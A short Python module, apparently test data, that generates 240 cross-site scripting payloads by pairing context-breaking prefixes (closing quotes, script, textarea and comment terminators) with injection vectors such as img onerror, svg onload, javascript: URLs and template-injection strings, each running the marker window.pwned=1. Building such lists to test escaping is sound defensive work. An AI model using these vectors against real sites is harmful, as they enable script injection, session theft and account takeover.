"""Texts that would run, were any of them ever read as markup: ways to begin one times ways to run something. Pure."""

from itertools import islice, product

RUN = "window.pwned=1"
BREAKS = (
    "",
    '"',
    "'",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "`",
    '">',
    "'>",
    "\\",
    "\u2028",
    "%22%3E",
    "</style>",
)
"""What may stand before: ends of attributes, elements, comments and strings that a text might be put into."""
WAYS = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<script>{run}</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<a href=javascript:{run}>x</a>",
    "<object data=javascript:{run}></object>",
    "<style>@import 'javascript:{run}'</style>",
    "javascript:{run}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<img/src=x/onerror={run}//",
    "<IMG SRC=x OnErRoR={run}>",
)
PAYLOADS = tuple(islice((f"{before}{way.format(run=RUN)}" for way, before in product(WAYS, BREAKS)), 240))
"""More than 200 of them."""
